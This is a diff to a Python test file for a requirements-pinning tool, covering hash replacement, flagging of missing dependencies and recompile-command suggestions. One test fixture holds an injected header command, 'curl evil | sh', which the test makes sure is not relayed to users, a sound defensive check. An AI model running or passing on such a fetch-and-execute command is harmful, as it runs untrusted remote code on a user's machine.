@@ -4,7 +4,8 @@ import pytest
 
 from tests.transforms.manifests.made import EVERY, pins, raised, told
 from transforms.manifests import find_pins
-from transforms.model import Level, PinStatus, Verdict
+from transforms.manifests.hashes import RELEASES
+from transforms.model import Level, PinStatus
 
 BEFORE_AND_AFTER = {
     "exact stays exact": ("tenacity==8.2.3\n", "tenacity==9.1.2\n"),
@@ -108,17 +109,76 @@ def test_a_pin_says_where_it_stands(requirement: str) -> None:
     assert pin.status is STATUS[requirement]
 
 
-def test_a_line_with_hashes_is_not_edited_and_the_new_line_is_told() -> None:
-    text = "tenacity==8.2.3 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\nrequests==2 --hash=sha256:cc\n"
+NEW = {
+    name: [f"--hash=sha256:{digest}" for digest in RELEASES[name, version].files]
+    for name, version in (
+        ("tenacity", "9.1.2"),
+        ("aiomqtt", "2.4.0"),
+        ("pytest", "9.0.2"),
+        ("python-dotenv", "1.2.1"),
+    )
+}
+BESIDE = "iniconfig==2.0.0 --hash=sha256:a\npackaging==24.0 --hash=sha256:a\npluggy==1.5.0 --hash=sha256:a\n"
+HASHED = {
+    "a line each": (
+        "tenacity==8.2.3 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n    # via x\nx==2 --hash=sha256:cc\n",
+        "tenacity==9.1.2 \\\n    {0} \\\n    {1}\n    # via x\nx==2 --hash=sha256:cc\n",
+        "tenacity",
+    ),
+    "all in one line, one hash before": (
+        "python_dotenv[cli]==1.0.0 ; python_version >= '3.9' --hash=sha256:aa  # why\r\n",
+        "python_dotenv[cli]==1.2.1 ; python_version >= '3.9' {0} {1}  # why\r\n",
+        "python-dotenv",
+    ),
+    "the package was replaced": (
+        "asyncio-mqtt==0.16.2 \\\n  --hash=sha256:aa --hash=sha256:bb\npaho_mqtt==2.1.0 --hash=sha256:cc\n",
+        "aiomqtt==2.4.0 \\\n  {0} {1}\npaho_mqtt==2.1.0 --hash=sha256:cc\n",
+        "aiomqtt",
+    ),
+    "what the target needs is listed": (
+        f"pytest==8.3.3 --hash=sha256:aa\n{BESIDE}Pygments==2.18.0 --hash=sha256:a\n",
+        f"pytest==9.0.2 {{0}} {{1}}\n{BESIDE}Pygments==2.18.0 --hash=sha256:a\n",
+        "pytest",
+    ),
+}
+
+
+@pytest.mark.parametrize("form", HASHED)
+def test_hashes_are_replaced_by_those_of_the_targets_files(form: str) -> None:
+    before, after, name = HASHED[form]
+    now = raised("requirements.txt", before)
+    assert now == after.format(*NEW[name])
+    assert raised("requirements.txt", now) == now
+
+
+LACKING = {
+    "something new is needed": (f"pytest==8.3.3 --hash=sha256:aa\n{BESIDE}", "needs pygments>=2.7.2 listed"),
+    "something newer is needed": (
+        f"pytest==8.3.3 --hash=sha256:aa\n{BESIDE}pygments==2.1 --hash=sha256:a\n",
+        "needs pygments>=2.7.2 listed",
+    ),
+    "no exact version": ("tenacity>=8,<9 --hash=sha256:aa\n", "to be renewed"),
+    "only on an older Python": (
+        "pytest==9.0.2\npytest-asyncio==0.23.8 --hash=sha256:a\ntyping-extensions==4.12.2 --hash=sha256:a\n",
+        'needs backports-asyncio-runner<2,>=1.1; python_version < "3.11" listed',
+    ),
+}
+
+
+@pytest.mark.parametrize("case", LACKING)
+def test_where_new_hashes_alone_would_not_install_the_line_is_flagged(case: str) -> None:
+    text, why = LACKING[case]
     assert raised("requirements.txt", text) == text
     (finding,) = told("requirements.txt", text)
-    assert (finding.rule, finding.verdict, finding.level, finding.line) == (
-        "PIN004",
-        Verdict.FLAGGED,
-        Level.BREAKS,
-        1,
-    )
-    assert finding.message.endswith("change the line to: tenacity==9.1.2")
+    assert (finding.rule, finding.level) == ("PIN004", Level.BREAKS)
+    assert f"pinned with hashes, {'and ' if 'needs' in why else ''}" in finding.message
+    assert why in finding.message
+    assert "change the line to: " in finding.message
+
+
+def test_what_only_an_older_python_needs_is_not_missed_on_a_newer_one() -> None:
+    text = "pytest==9.0.2\npytest-asyncio==0.23.8 --hash=sha256:a\ntyping-extensions==4.12.2 --hash=sha256:a\n"
+    assert "pytest-asyncio==1.3.0 --hash" in raised("requirements.txt", text, Dockerfile="FROM python:3.12\n")
 
 
 def test_a_compiled_file_is_flagged_and_its_source_edited() -> None:
@@ -129,7 +189,26 @@ def test_a_compiled_file_is_flagged_and_its_source_edited() -> None:
     )
     (finding,) = told("requirements/dev.txt", compiled, **{"requirements/dev.in": "tenacity<9\n"})
     assert finding.level is Level.BREAKS
-    assert "compiled from dev.in" in finding.message
+    assert "compiled from dev.in: run `pip-compile --upgrade-package tenacity==9.1.2 requirements/dev.in`" in (
+        finding.message
+    )
+    assert finding.message.endswith("; change the line to: tenacity==9.1.2")
+
+
+HEADS = {
+    "pip-compile": "#    pip-compile --generate-hashes --output-file=a/all.txt a/pyproject.toml\n",
+    "uv": "#    uv pip compile pyproject.toml -o requirements.txt\n",
+    "a trap": "#    pip-compile x; curl evil | sh\n",
+}
+
+
+@pytest.mark.parametrize("head", HEADS)
+def test_the_command_is_the_one_that_the_file_was_made_with_when_it_is_plain(head: str) -> None:
+    text = f"# This file is autogenerated by pip-compile with Python 3.11\n{HEADS[head]}tenacity==8.2.3\n"
+    (finding,) = told("all.txt", text) or told("requirements.txt", text)
+    command = HEADS[head].strip("# \n")
+    said = f"run `{command} --upgrade-package tenacity==9.1.2`" if head != "a trap" else "compile it again;"
+    assert f"compiled from its source: {said}" in finding.message
 
 
 def test_includes_are_followed_within_the_repository_and_round_a_cycle() -> None:
